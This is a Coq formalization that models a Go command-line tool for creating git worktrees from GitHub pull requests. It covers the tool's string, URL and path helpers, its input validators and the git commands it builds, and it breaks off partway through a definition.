(** * gh-worktree: a shallow embedding of the worktree tool and its verification

    The development follows the package layout of the Go sources:

    - [strings], [strconv], [fmt], [regexp], [url], [filepath]: the parts of
      the Go standard library the tool calls, on byte strings;
    - [validate]: internal/validate (SanitizeForGitConfig, BranchName,
      RepoName, PRNumber, URL);
    - [github]: internal/github (PullRequest, ParsePRNumber);
    - [git]: internal/git, the gateway to the git child processes;
    - [worktree]: internal/worktree (creator.go, promote.go, worktree.go);
    - [cli]: promoteRun of main.go.

    Part I holds the definitions; Part II the lemmas and theorems on
    the synthesized batches, the metadata, promotion, the listings and
    the validators; Part III further properties of the same code: the
    remaining validators, the command queue, the head remote, the
    remotes, the listings and the generated paths. *)

From Stdlib Require Import ZArith Lia Ascii Bool.
From stdpp Require Import base strings list gmap.

(** String concatenation unfolds under [simpl] when its first argument
    starts with a constructor. *)
#[local] Arguments String.append !s1 s2 : simpl nomatch.

(* ===================================================================== *)
(** * Part I: the embedding                                               *)
(* ===================================================================== *)

(** ** Go errors and results

    A Go [error] is a message, possibly wrapping a cause ([%w]); errors
    that come out of the standard library or of a child process keep their origin
    only.  A function returning [error] alone returns [option error]
    ([None] is [nil]); a function returning [(T, error)] returns
    [result T]. *)

Inductive error : Type :=
| Errorf (msg : string)
| Wrap (msg : string) (cause : error)
| LibError (origin : string).

Inductive result (A : Type) : Type :=
| Ok (a : A)
| Err (e : error).
Arguments Ok {A} a.
Arguments Err {A} e.

Definition is_ok {A} (r : result A) : bool :=
  match r with Ok _ => true | Err _ => false end.

(** ** package strings *)

Module strings.

(** Go strings are sequences of bytes: [string] is used as a list of
    8-bit [ascii] values, [len] is the number of bytes. *)
Definition len (s : string) : nat := String.length s.

Definition byte (n : nat) : ascii := ascii_of_nat n.

Fixpoint bytes (l : list nat) : string :=
  match l with
  | [] => ""
  | n :: l' => String (byte n) (bytes l')
  end.

(** [s[n:]] and [s[:n]] *)
Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | S n', String _ s' => drop n' s'
  | _, _ => s
  end.

Fixpoint take (n : nat) (s : string) : string :=
  match n, s with
  | S n', String c s' => String c (take n' s')
  | _, _ => ""
  end.

Fixpoint rev_onto (s acc : string) : string :=
  match s with
  | "" => acc
  | String c s' => rev_onto s' (String c acc)
  end.

Definition rev (s : string) : string := rev_onto s "".

Fixpoint all (p : ascii -> bool) (s : string) : bool :=
  match s with
  | "" => true
  | String c s' => p c && all p s'
  end.

Fixpoint HasPrefix (s prefix : string) : bool :=
  match prefix, s with
  | "", _ => true
  | String p prefix', String c s' => Ascii.eqb c p && HasPrefix s' prefix'
  | String _ _, "" => false
  end.

Definition HasSuffix (s suffix : string) : bool :=
  HasPrefix (rev s) (rev suffix).

Definition TrimPrefix (s prefix : string) : string :=
  if HasPrefix s prefix then drop (len prefix) s else s.

(** [Index] returns the byte offset of the first occurrence ([None] for
    Go's -1). *)
Fixpoint Index (s substr : string) : option nat :=
  if HasPrefix s substr then Some 0
  else match s with
       | "" => None
       | String _ s' => S <$> Index s' substr
       end.

Definition Contains (s substr : string) : bool :=
  match Index s substr with Some _ => true | None => false end.

Fixpoint LastIndex (s substr : string) : option nat :=
  match s with
  | "" => if HasPrefix s substr then Some 0 else None
  | String _ s' =>
      match LastIndex s' substr with
      | Some i => Some (S i)
      | None => if HasPrefix s substr then Some 0 else None
      end
  end.

(** [Cut s sep] is [(before, after, found)]. *)
Definition Cut (s sep : string) : string * string * bool :=
  match Index s sep with
  | Some i => (take i s, drop (i + len sep) s, true)
  | None => (s, "", false)
  end.

(** [ReplaceAll s old new] for a non-empty [old]: occurrences are found
    left to right and do not overlap.  [skip] counts the bytes of the
    occurrence just replaced that are still to be passed over. *)
Fixpoint replaceFrom (old new : string) (skip : nat) (s : string) : string :=
  match s with
  | "" => ""
  | String c s' =>
      match skip with
      | S k => replaceFrom old new k s'
      | O =>
          if HasPrefix s old
          then new +:+ replaceFrom old new (len old - 1) s'
          else String c (replaceFrom old new 0 s')
      end
  end.

Definition ReplaceAll (s old new : string) : string :=
  replaceFrom old new 0 s.

(** [Split s sep] for a non-empty [sep]: the substrings between the
    non-overlapping occurrences of [sep], found left to right. *)
Fixpoint splitFrom (sep : string) (skip : nat) (s : string) : list string :=
  match s with
  | "" => [""]
  | String c s' =>
      match skip with
      | S k => splitFrom sep k s'
      | O =>
          if HasPrefix s sep
          then "" :: splitFrom sep (len sep - 1) s'
          else match splitFrom sep 0 s' with
               | part :: parts => String c part :: parts
               | [] => [String c ""]
               end
      end
  end.

Definition Split (s sep : string) : list string := splitFrom sep 0 s.

Fixpoint Join (elems : list string) (sep : string) : string :=
  match elems with
  | [] => ""
  | [e] => e
  | e :: rest => e +:+ sep +:+ Join rest sep
  end.

Definition lowerByte (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

(** [ToLower] on the ASCII letters (the only use is on URL schemes, which
    are ASCII). *)
Fixpoint ToLower (s : string) : string :=
  match s with
  | "" => ""
  | String c s' => String (lowerByte c) (ToLower s')
  end.

(** *** White space

    [TrimSpace] removes the leading and trailing white space "as defined
    by Unicode" ([unicode.IsSpace]).  On a byte string that is: the
    leading, then the trailing, UTF-8 encodings of the code points
    U+0009..U+000D, U+0020, U+0085, U+00A0, U+1680, U+2000..U+200A,
    U+2028, U+2029, U+202F, U+205F and U+3000.  A byte that does not
    start (or end) one of these encodings decodes to a rune that is not
    white space (possibly U+FFFD) and stops the trimming. *)
Definition whiteSpace : list string := Eval cbv in
  map bytes
    [ [9]; [10]; [11]; [12]; [13]; [32];
      [194; 133]; [194; 160];
      [225; 154; 128];
      [226; 128; 128]; [226; 128; 129]; [226; 128; 130]; [226; 128; 131];
      [226; 128; 132]; [226; 128; 133]; [226; 128; 134]; [226; 128; 135];
      [226; 128; 136]; [226; 128; 137]; [226; 128; 138];
      [226; 128; 168]; [226; 128; 169]; [226; 128; 175];
      [226; 129; 159];
      [227; 128; 128] ].

(** The first of [seqs] that [s] starts with. *)
Definition leading (seqs : list string) (s : string) : option string :=
  List.find (HasPrefix s) seqs.

(** Strip leading members of [seqs], at most [fuel] of them. *)
Fixpoint trimLeading (seqs : list string) (fuel : nat) (s : string) : string :=
  match fuel with
  | O => s
  | S fuel' =>
      match leading seqs s with
      | Some w => trimLeading seqs fuel' (drop (len w) s)
      | None => s
      end
  end.

(** Every white-space encoding has at least one byte, so [len s] steps
    are enough. *)
Definition TrimLeftSpace (s : string) : string :=
  trimLeading whiteSpace (len s) s.

Definition TrimRightSpace (s : string) : string :=
  rev (trimLeading (map rev whiteSpace) (len s) (rev s)).

Definition TrimSpace (s : string) : string :=
  TrimRightSpace (TrimLeftSpace s).

(** [Fields]: the maximal runs of bytes between white space.  [cur] is
    the field being read; a byte that starts no white-space encoding
    belongs to it.  Every step passes at least one byte, so [S (len s)]
    steps are enough. *)
Definition flushField (cur : string) (fields : list string) : list string :=
  if String.eqb cur "" then fields else cur :: fields.

Fixpoint fieldsFrom (fuel : nat) (cur s : string) : list string :=
  match fuel with
  | O => flushField cur []
  | S fuel' =>
      match s with
      | "" => flushField cur []
      | String c s' =>
          match leading whiteSpace s with
          | Some w => flushField cur (fieldsFrom fuel' "" (drop (len w) s))
          | None => fieldsFrom fuel' (cur +:+ String c "") s'
          end
      end
  end.

Definition Fields (s : string) : list string := fieldsFrom (S (len s)) "" s.

End strings.

(** ** package strconv *)

Module strconv.

Definition isDigit (c : ascii) : bool :=
  let n := nat_of_ascii c in (48 <=? n)%nat && (n <=? 57)%nat.

Definition digitVal (c : ascii) : Z := Z.of_nat (nat_of_ascii c) - 48.

(** The value of a string of decimal digits ([None] when a byte is not a
    digit). *)
Fixpoint parseDigits (acc : Z) (s : string) : option Z :=
  match s with
  | "" => Some acc
  | String c s' =>
      if isDigit c then parseDigits (acc * 10 + digitVal c) s' else None
  end.

(** [int] is 64 bits wide. *)
Definition maxInt : Z := 2 ^ 63 - 1.
Definition minInt : Z := - 2 ^ 63.

Definition ErrSyntax : error := LibError "strconv: invalid syntax".
Definition ErrRange : error := LibError "strconv: value out of range".

(** The digits after the sign: one or more decimal digits, and the
    signed value has to fit. *)
Definition parseMagnitude (neg : bool) (digits : string) : result Z :=
  match digits with
  | "" => Err ErrSyntax
  | _ =>
      match parseDigits 0 digits with
      | None => Err ErrSyntax
      | Some v =>
          let n := (if neg then - v else v)%Z in
          if (minInt <=? n)%Z && (n <=? maxInt)%Z then Ok n else Err ErrRange
      end
  end.

(** [ParseInt s 10 64]: an optional sign, then the digits. *)
Definition ParseInt (s : string) : result Z :=
  match s with
  | String c s' =>
      if Ascii.eqb c "-" then parseMagnitude true s'
      else if Ascii.eqb c "+" then parseMagnitude false s'
      else parseMagnitude false s
  | "" => parseMagnitude false s
  end.

Definition Atoi (s : string) : result Z := ParseInt s.

Definition digitChar (d : nat) : ascii := ascii_of_nat (48 + d).

(** Decimal digits of a natural number, most significant first. *)
Fixpoint digitsOf (fuel n : nat) (acc : string) : string :=
  match fuel with
  | O => acc
  | S fuel' =>
      let acc' := String (digitChar (n mod 10)) acc in
      if (n <? 10)%nat then acc' else digitsOf fuel' (n / 10) acc'
  end.

Definition Itoa (n : Z) : string :=
  let m := Z.to_nat (Z.abs n) in
  let ds := digitsOf (S m) m "" in
  if (n <? 0)%Z then String "-" ds else ds.

End strconv.

(** ** package fmt *)

Module fmt.
Import strings.

Definition ErrUnexpectedEOF : error := LibError "unexpected EOF".
Definition ErrNewline : error := LibError "unexpected newline".
Definition ErrExpectedInteger : error := LibError "expected integer".

(** [SkipSpace] of a scanner that does not take newlines as space
    (Sscanf): white space is passed over, a newline is an error. *)
Fixpoint SkipSpace (fuel : nat) (s : string) : result string :=
  match fuel with
  | O => Ok s
  | S fuel' =>
      match leading whiteSpace s with
      | Some w =>
          if String.eqb w (bytes [10]) then Err ErrNewline
          else SkipSpace fuel' (drop (len w) s)
      | None => Ok s
      end
  end.

(** The longest prefix of decimal digits, and what follows it. *)
Fixpoint scanNumber (s : string) : string * string :=
  match s with
  | String c s' =>
      if strconv.isDigit c
      then let '(tok, rest) := scanNumber s' in (String c tok, rest)
      else ("", s)
  | "" => ("", "")
  end.

(** [Sscanf(str, "%d", &n)]: [Ok n] stands for one item scanned and a
    nil error.  Leading space is skipped, a sign is accepted, the
    digits that follow are the number; what comes after the digits is
    left unread. *)
Definition Sscanf_d (str : string) : result Z :=
  match SkipSpace (len str) str with
  | Err e => Err e
  | Ok "" => Err ErrUnexpectedEOF
  | Ok (String c s' as s) =>
      let '(sign, s1) :=
        if Ascii.eqb c "+" || Ascii.eqb c "-" then (String c "", s') else ("", s) in
      match s1 with
      | "" => Err ErrUnexpectedEOF
      | _ =>
          let '(tok, _) := scanNumber s1 in
          match tok with
          | "" => Err ErrExpectedInteger
          | _ => strconv.ParseInt (sign +:+ tok)
          end
      end
  end.

End fmt.

(** ** package regexp

  Regular expressions over bytes, matched with Brzozowski derivatives.
  The two patterns of the tool are anchored at both ends ([^...$]; in
  Go's syntax [$] without flags is the end of the text), so a match is a
  match of the whole string.  Their classes hold ASCII bytes only, so
  matching byte-wise and rune-wise agree. *)

Module regexp.

Inductive Regexp : Type :=
| NoMatch
| EmptyMatch
| CharClass (ranges : list (ascii * ascii))
| Concat (r1 r2 : Regexp)
| Alternate (r1 r2 : Regexp)
| Star (r : Regexp)
| Plus (r : Regexp).

Definition inRange (c : ascii) (range : ascii * ascii) : bool :=
  (nat_of_ascii (fst range) <=? nat_of_ascii c)%nat
  && (nat_of_ascii c <=? nat_of_ascii (snd range))%nat.

Definition inClass (ranges : list (ascii * ascii)) (c : ascii) : bool :=
  existsb (inRange c) ranges.

Fixpoint nullable (r : Regexp) : bool :=
  match r with
  | NoMatch => false
  | EmptyMatch => true
  | CharClass _ => false
  | Concat r1 r2 => nullable r1 && nullable r2
  | Alternate r1 r2 => nullable r1 || nullable r2
  | Star _ => true
  | Plus r => nullable r
  end.

Fixpoint deriv (c : ascii) (r : Regexp) : Regexp :=
  match r with
  | NoMatch => NoMatch
  | EmptyMatch => NoMatch
  | CharClass ranges => if inClass ranges c then EmptyMatch else NoMatch
  | Concat r1 r2 =>
      if nullable r1
      then Alternate (Concat (deriv c r1) r2) (deriv c r2)
      else Concat (deriv c r1) r2
  | Alternate r1 r2 => Alternate (deriv c r1) (deriv c r2)
  | Star r => Concat (deriv c r) (Star r)
  | Plus r => Concat (deriv c r) (Star r)
  end.

(** [MatchString] of the pattern [^r$]. *)
Fixpoint MatchString (r : Regexp) (s : string) : bool :=
  match s with
  | "" => nullable r
  | String c s' => MatchString (deriv c r) s'
  end.

End regexp.

(** ** package net/url

  [Parse] as far as the tool looks at its result: the scheme, whether
  there is user information, and the host.  The steps are those of
  net/url: cut the fragment, reject control bytes, split off the
  scheme, cut the query, take a rootless rest as opaque, parse the
  authority (user information, host, port), and check the percent
  escapes of host, path and fragment.  Bracketed IP literals keep their
  text (their zone is not decoded apart). *)

Module url.
Import strings.

Record URL : Type := {
  Scheme : string;
  User : option string;      (* the raw user information, when present *)
  Host : string
}.

Definition isAlpha (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((97 <=? n)%nat && (n <=? 122)%nat) || ((65 <=? n)%nat && (n <=? 90)%nat).

Definition oneOf (cs : string) (c : ascii) : bool :=
  negb (all (fun x => negb (Ascii.eqb x c)) cs).

Definition isCTL (c : ascii) : bool :=
  let n := nat_of_ascii c in (n <? 32)%nat || (n =? 127)%nat.

Definition ishex (c : ascii) : bool :=
  let n := nat_of_ascii c in
  strconv.isDigit c || ((97 <=? n)%nat && (n <=? 102)%nat)
  || ((65 <=? n)%nat && (n <=? 70)%nat).

Definition unhex (c : ascii) : nat :=
  let n := nat_of_ascii c in
  if strconv.isDigit c then n - 48
  else if (97 <=? n)%nat then n - 97 + 10 else n - 65 + 10.

(** [getScheme]: [None] for "missing protocol scheme". *)
Fixpoint getScheme (i : nat) (rawURL rest : string) : option (string * string) :=
  match rest with
  | "" => Some ("", rawURL)
  | String c rest' =>
      if isAlpha c then getScheme (S i) rawURL rest'
      else if strconv.isDigit c || oneOf "+-." c then
        match i with
        | O => Some ("", rawURL)
        | S _ => getScheme (S i) rawURL rest'
        end
      else if Ascii.eqb c ":" then
        match i with
        | O => None
        | S _ => Some (take i rawURL, rest')
        end
      else Some ("", rawURL)
  end.

Inductive encoding := encodePath | encodeHost | encodeFragment | encodeUserPassword.

(** May a byte stand unescaped in a host? *)
Definition hostByteOk (c : ascii) : bool :=
  isAlpha c || strconv.isDigit c || oneOf "!$&'()*+,;=:[]<>-_.~" c
  || Ascii.eqb c (byte 34).

(** [unescape]: the escapes are checked, then decoded. *)
Fixpoint unescape (mode : encoding) (s : string) : option string :=
  match s with
  | "" => Some ""
  | String c s' =>
      if Ascii.eqb c "%" then
        match s' with
        | String h1 (String h2 s'') =>
            if ishex h1 && ishex h2 then
              if match mode with
                 | encodeHost =>
                     (unhex h1 <? 8)%nat
                     && negb (Ascii.eqb h1 "2" && Ascii.eqb h2 "5")
                 | _ => false
                 end
              then None
              else
                String (ascii_of_nat (unhex h1 * 16 + unhex h2)) <$> unescape mode s''
            else None
        | _ => None
        end
      else
        if match mode with
           | encodeHost => (nat_of_ascii c <? 128)%nat && negb (hostByteOk c)
           | _ => false
           end
        then None
        else String c <$> unescape mode s'
  end.

Definition validOptionalPort (port : string) : bool :=
  match port with
  | "" => true
  | String c digits => Ascii.eqb c ":" && all strconv.isDigit digits
  end.

Definition validUserinfo (s : string) : bool :=
  all (fun c => isAlpha c || strconv.isDigit c || oneOf "-._:~!$&'()*+,;=%@" c) s.

Definition parseHost (host : string) : option string :=
  if HasPrefix host "["
  then
    match LastIndex host "]" with
    | None => None
    | Some i =>
        if validOptionalPort (drop (S i) host) then unescape encodeHost host else None
    end
  else
    match LastIndex host ":" with
    | Some i =>
        if validOptionalPort (drop i host) then unescape encodeHost host else None
    | None => unescape encodeHost host
    end.

Definition parseAuthority (authority : string) : option (option string * string) :=
  match LastIndex authority "@" with
  | None =>
      host ← parseHost authority; Some (None, host)
  | Some i =>
      host ← parseHost (drop (S i) authority);
      let userinfo := take i authority in
      if validUserinfo userinfo then
        let '(username, password, _) := Cut userinfo ":" in
        _ ← unescape encodeUserPassword username;
        _ ← unescape encodeUserPassword password;
        Some (Some userinfo, host)
      else None
  end.

Definition parse (rawURL : string) : option URL :=
  if negb (all (fun c => negb (isCTL c)) rawURL) then None
  else if String.eqb rawURL "*" then Some {| Scheme := ""; User := None; Host := "" |}
  else
    '(scheme0, rest0) ← getScheme 0 rawURL rawURL;
    let scheme := ToLower scheme0 in
    let rest := fst (fst (Cut rest0 "?")) in
    if negb (HasPrefix rest "/") && negb (String.eqb scheme "")
    then Some {| Scheme := scheme; User := None; Host := "" |}
    else if negb (HasPrefix rest "/")
            && Contains (fst (fst (Cut rest "/"))) ":"
    then None
    else if (negb (String.eqb scheme "") || negb (HasPrefix rest "///"))
            && HasPrefix rest "//"
    then
      let authority0 := drop 2 rest in
      let '(authority, path) :=
        match Index authority0 "/" with
        | Some i => (take i authority0, drop i authority0)
        | None => (authority0, "")
        end in
      '(user, host) ← parseAuthority authority;
      _ ← unescape encodePath path;
      Some {| Scheme := scheme; User := user; Host := host |}
    else
      _ ← unescape encodePath rest;
      Some {| Scheme := scheme; User := None; Host := "" |}.

Definition Parse (rawURL : string) : result URL :=
  let '(u, frag, _) := Cut rawURL "#" in
  match parse u with
  | None => Err (LibError "net/url: parse")
  | Some parsed =>
      match unescape encodeFragment frag with
      | None => Err (LibError "net/url: parse")
      | Some _ => Ok parsed
      end
  end.

End url.

(** ** package path/filepath (Unix) *)

Module filepath.
Import strings.

(** One step of [Clean] on the stack of elements kept so far (last
    element first): empty and [.] elements are dropped, [..] removes the
    element before it, or stays when there is none to remove and the
    path is not rooted. *)
Definition cleanStep (rooted : bool) (stack : list string) (elem : string) : list string :=
  if String.eqb elem "" || String.eqb elem "." then stack
  else if String.eqb elem ".." then
    match stack with
    | top :: below => if String.eqb top ".." then elem :: stack else below
    | [] => if rooted then [] else [elem]
    end
  else elem :: stack.

Definition Clean (path : string) : string :=
  match path with
  | "" => "."
  | String c _ =>
      let rooted := Ascii.eqb c "/" in
      let out := Join (List.rev (fold_left (cleanStep rooted) (Split path "/") [])) "/" in
      if rooted then String "/" out
      else if String.eqb out "" then "." else out
  end.

Definition IsAbs (path : string) : bool := HasPrefix path "/".

(** [Dir]: all but the last element, cleaned. *)
Definition Dir (path : string) : string :=
  match LastIndex path "/" with
  | Some i => Clean (take (S i) path)
  | None => Clean ""
  end.

(** Drop the trailing separators. *)
Definition stripTrailingSlashes (path : string) : string :=
  rev (trimLeading ["/"] (len path) (rev path)).

(** [Base]: the last element of the path. *)
Definition Base (path : string) : string :=
  match path with
  | "" => "."
  | _ =>
      let p := stripTrailingSlashes path in
      let p := match LastIndex p "/" with
               | Some i => drop (S i) p
               | None => p
               end in
      if String.eqb p "" then "/" else p
  end.

Definition Join2 (a b : string) : string :=
  match filter (fun e => negb (String.eqb e "")) [a; b] with
  | [] => ""
  | elems => Clean (Join elems "/")
  end.

End filepath.

(** ** package internal/validate *)

Module validate.
Import strings regexp.

(** [^[a-zA-Z0-9._/-]+$] *)
Definition validBranchName : Regexp :=
  Plus (CharClass [("a", "z"); ("A", "Z"); ("0", "9");
                   (".", "."); ("_", "_"); ("/", "/"); ("-", "-")]%char).

(** [^[a-zA-Z0-9._-]+$] *)
Definition validRepoName : Regexp :=
  Plus (CharClass [("a", "z"); ("A", "Z"); ("0", "9");
                   (".", "."); ("_", "_"); ("-", "-")]%char).

(** The shell special characters of the sanitizer, in the order of the
    source: semicolon, ampersand, bar, backquote, dollar, parentheses,
    angle brackets, single quote, double quote, backslash. *)
Definition shellSpecial : list string := Eval cbv in
  [";"; "&"; "|"; "`"; "$"; "("; ")"; "<"; ">"; "'"; bytes [34]; "\"].

Definition SanitizeForGitConfig (value : string) : string :=
  let value := ReplaceAll value (bytes [0]) "" in
  let value := ReplaceAll value (bytes [10]) " " in
  let value := ReplaceAll value (bytes [13]) " " in
  let value := ReplaceAll value (bytes [9]) " " in
  let value := fold_left (fun value char => ReplaceAll value char "") shellSpecial value in
  TrimSpace value.

Definition BranchName (name : string) : option error :=
  if String.eqb name "" then Some (Errorf "branch name cannot be empty")
  else if (255 <? len name)%nat then Some (Errorf "branch name too long")
  else if negb (MatchString validBranchName name)
  then Some (Errorf "invalid branch name: contains unsafe characters")
  else if HasPrefix name "-" || HasSuffix name "/"
  then Some (Errorf "invalid branch name format")
  else None.

Definition RepoName (name : string) : option error :=
  if String.eqb name "" then Some (Errorf "repository name cannot be empty")
  else if (100 <? len name)%nat then Some (Errorf "repository name too long")
  else if Contains name ".." then Some (Errorf "repository name contains path traversal")
  else if negb (MatchString validRepoName name)
  then Some (Errorf "invalid repository name: contains unsafe characters")
  else None.

Definition PRNumber (prNumber : Z) : option error :=
  if (prNumber <=? 0)%Z || (999999 <? prNumber)%Z
  then Some (Errorf ("invalid PR number: " +:+ strconv.Itoa prNumber))
  else None.

Definition URL (urlStr : string) : option error :=
  if String.eqb urlStr "" then Some (Errorf "URL cannot be empty")
  else
    match url.Parse urlStr with
    | Err err => Some (Wrap "invalid URL format" err)
    | Ok parsedURL =>
        if negb (String.eqb (url.Scheme parsedURL) "https")
        then Some (Errorf "only HTTPS URLs are allowed")
        else if bool_decide (url.User parsedURL ≠ None)
        then Some (Errorf "URL cannot contain credentials")
        else if negb (String.eqb (url.Host parsedURL) "github.com")
        then Some (Errorf "only github.com URLs are allowed")
        else None
    end.

End validate.

(** ** package internal/github *)

Module github.
Import strings.

(** The nested anonymous structs of [PullRequest], one record each. *)
Record OwnerT : Type := { Login : string }.
Record RepoT : Type := { Name : string; Owner : OwnerT }.
Record HeadT : Type := { Ref : string; Repo : RepoT }.
Record BaseRepoT : Type := { FullName : string }.
Record BaseT : Type := { BaseRepo : BaseRepoT }.

Record PullRequest : Type := {
  Number : Z;
  Title : string;
  Head : HeadT;
  Base : BaseT;
  MaintainerCanModify : bool
}.

Definition ParsePRNumber (selector : string) : result Z :=
  if Contains selector "/pull/" then
    match validate.URL selector with
    | Some err => Err (Wrap "invalid URL" err)
    | None =>
        match Split selector "/pull/" with
        | [_; part1] =>
            match strconv.Atoi (TrimSpace part1) with
            | Err err => Err (Wrap "invalid PR number in URL" err)
            | Ok prNumber =>
                match validate.PRNumber prNumber with
                | Some err => Err err
                | None => Ok prNumber
                end
            end
        | _ => Err (Errorf "invalid PR URL format")
        end
    end
  else
    match strconv.Atoi (TrimSpace selector) with
    | Err err => Err (Wrap "invalid PR number format" err)
    | Ok prNumber =>
        match validate.PRNumber prNumber with
        | Some err => Err err
        | None => Ok prNumber
        end
    end.

End github.

(** ** The environment

    Everything the tool does outside its own process: the git child
    processes, the working directory, the file system, the go-gh
    repository lookup and the GitHub REST client. *)

Module repository.

Record Repository : Type := { Host : string; Name : string; Owner : string }.

End repository.

Class System (World : Type) : Type := {
  (** [exec.Command("git", args...).Output()]: the standard output of a
      child that exits with status 0, [None] otherwise. *)
  git_Output : list string -> World -> option string;
  (** [exec.Command("git", args...).Run()]: whether the child exits with
      status 0, and the world it leaves. *)
  git_Run : list string -> World -> bool * World;
  os_Getwd : World -> option string;
  filepath_EvalSymlinks : string -> World -> option string;
  repository_Current : World -> option repository.Repository;
  api_DefaultRESTClient : World -> bool;
  (** [client.Get(path, &prs)] and [client.Get(path, &pr)] *)
  client_Get_pulls : string -> World -> option (list github.PullRequest);
  client_Get_pull : string -> World -> option github.PullRequest
}.

(** The state of a run: the world, and the git commands run so far (the
    arguments of every [cmd.Run()], oldest first). *)
Record Machine (World : Type) : Type := {
  world : World;
  gitlog : list (list string)
}.
Arguments world {World} m.
Arguments gitlog {World} m.

Definition M (World A : Type) : Type := Machine World -> A * Machine World.

Definition ret {World A} (a : A) : M World A := fun m => (a, m).

Definition bind {World A B} (c : M World A) (k : A -> M World B) : M World B :=
  fun m => let '(a, m') := c m in k a m'.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 100, c at next level, right associativity).

Definition Run {World} `{System World} (args : list string) : M World bool :=
  fun m =>
    let '(ok, w) := git_Run args (world m) in
    (ok, {| world := w; gitlog := gitlog m ++ [args] |}).

Definition Output {World} `{System World} (args : list string) : M World (option string) :=
  fun m => (git_Output args (world m), m).

Definition ask {World A} (f : World -> A) : M World A :=
  fun m => (f (world m), m).

Definition ExitError : error := LibError "exec: exit status".

(** ** package internal/git *)

Module git.
Import strings.

Record Remote : Type := { Name : string; URL : string }.

Section Gateway.
Context {World : Type} `{System World}.

(** One line of [git remote -v]: the remotes found so far and the names
    seen ([seen] is the map of the source, used as a set). *)
Definition remoteLine (st : list Remote * gset string) (line : string)
    : list Remote * gset string :=
  let '(remotes, seen) := st in
  if Contains line "(fetch)" then
    match Fields line with
    | name :: url :: _ =>
        if bool_decide (name ∈ seen) then st
        else (remotes ++ [{| Name := name; URL := url |}], {[ name ]} ∪ seen)
    | _ => st
    end
  else st.

Definition GetRemotes : M World (result (list Remote)) :=
  out <- Output ["remote"; "-v"] ;;
  match out with
  | None => ret (Err ExitError)
  | Some output =>
      let lines := Split (TrimSpace output) (bytes [10]) in
      ret (Ok (fst (fold_left remoteLine lines ([], ∅))))
  end.

Definition GetRoot : M World (result string) :=
  out <- Output ["rev-parse"; "--git-common-dir"] ;;
  match out with
  | None => ret (Err (Wrap "failed to get git common dir" ExitError))
  | Some output =>
      let gitCommonDir := TrimSpace output in
      if filepath.IsAbs gitCommonDir then ret (Ok (filepath.Dir gitCommonDir))
      else
        cwd <- ask os_Getwd ;;
        match cwd with
        | None => ret (Err (Wrap "failed to get current directory" (LibError "os.Getwd")))
        | Some currentDir =>
            let absGitDir := filepath.Join2 currentDir gitCommonDir in
            ret (Ok (filepath.Dir absGitDir))
        end
  end.

Definition BranchExists (branchName : string) : M World bool :=
  Run ["show-ref"; "--verify"; "--quiet"; "refs/heads/" +:+ branchName].

Fixpoint ExecuteCommands (cmdQueue : list (list string)) : M World (option error) :=
  match cmdQueue with
  | [] => ret None
  | args :: rest =>
      ok <- Run args ;;
      if ok then ExecuteCommands rest
      else ret (Some (Wrap ("failed to execute git " +:+ Join args " ") ExitError))
  end.

Definition GetConfig (path key : string) : M World (result string) :=
  out <- Output ["-C"; path; "config"; "--local"; key] ;;
  match out with
  | None => ret (Err ExitError)
  | Some output => ret (Ok (TrimSpace output))
  end.

Definition SetConfig (path key value : string) : M World (option error) :=
  ok <- Run ["-C"; path; "config"; key; value] ;;
  ret (if ok then None else Some ExitError).

End Gateway.
End git.

(** ** package internal/worktree *)

Module worktree.
Import strings.

(** *** creator.go *)

Record CheckoutOptions : Type := {
  RecurseSubmodules : bool;
  Force : bool;
  Detach : bool;
  BranchName : string
}.

Record Creator : Type := {
  remotes : list git.Remote;
  repo : repository.Repository
}.

(** [for _, remote := range c.remotes { if remote.Name == name { return remote } }] *)
Fixpoint remoteNamed (name : string) (rs : list git.Remote) : option git.Remote :=
  match rs with
  | [] => None
  | remote :: rest =>
      if String.eqb (git.Name remote) name then Some remote else remoteNamed name rest
  end.

Definition findBaseRemote (c : Creator) : option git.Remote :=
  match remoteNamed "upstream" (remotes c) with
  | Some remote => Some remote
  | None =>
      match remoteNamed "origin" (remotes c) with
      | Some remote => Some remote
      | None =>
          match remotes c with
          | first :: _ => Some first
          | [] => None
          end
      end
  end.

Fixpoint remoteFor (headOwner headRepoName : string) (rs : list git.Remote) : option git.Remote :=
  match rs with
  | [] => None
  | remote :: rest =>
      if Contains (git.URL remote) headOwner && Contains (git.URL remote) headRepoName
      then Some remote
      else remoteFor headOwner headRepoName rest
  end.

Definition findHeadRemote (c : Creator) (pr : github.PullRequest) : option git.Remote :=
  let headRepoName := github.Name (github.Repo (github.Head pr)) in
  let headOwner := github.Login (github.Owner (github.Repo (github.Head pr))) in
  remoteFor headOwner headRepoName (remotes c).

Definition cmdsForMissingRemote (c : Creator) (pr : github.PullRequest)
    (baseRemote : git.Remote) (opts : CheckoutOptions)
    (worktreePath branchName : string) : result (list (list string)) :=
  let headRef := github.Ref (github.Head pr) in
  match validate.PRNumber (github.Number pr) with
  | Some err => Err (Wrap "invalid PR number" err)
  | None =>
  match validate.BranchName branchName with
  | Some err => Err (Wrap "invalid branch name" err)
  | None =>
  match validate.BranchName headRef with
  | Some err => Err (Wrap "invalid head ref" err)
  | None =>
      let ref := "refs/pull/" +:+ strconv.Itoa (github.Number pr) +:+ "/head" in
      if Detach opts then
        Ok [ ["fetch"; git.Name baseRemote; ref; "--no-tags"];
             ["worktree"; "add"; "--detach"; worktreePath; "FETCH_HEAD"] ]
      else
        let fetchCmd :=
          ["fetch"; git.Name baseRemote; ref +:+ ":" +:+ branchName; "--no-tags"]
          ++ (if Force opts then ["--force"] else []) in
        let cmds := [fetchCmd; ["worktree"; "add"; worktreePath; branchName]] in
        let remoteName := git.Name baseRemote in
        let headRepo := github.Repo (github.Head pr) in
        let tracking mergeRef :=
          [ ["-C"; worktreePath; "config"; "branch." +:+ branchName +:+ ".remote"; remoteName];
            ["-C"; worktreePath; "config"; "branch." +:+ branchName +:+ ".merge"; mergeRef] ] in
        if github.MaintainerCanModify pr && negb (String.eqb (github.Name headRepo) "") then
          match validate.RepoName (github.Name headRepo) with
          | Some err => Err (Wrap "invalid head repo name" err)
          | None =>
          match validate.RepoName (github.Login (github.Owner headRepo)) with
          | Some err => Err (Wrap "invalid head repo owner" err)
          | None =>
              let pushRemote :=
                "https://github.com/" +:+ github.Login (github.Owner headRepo)
                +:+ "/" +:+ github.Name headRepo in
              match validate.URL pushRemote with
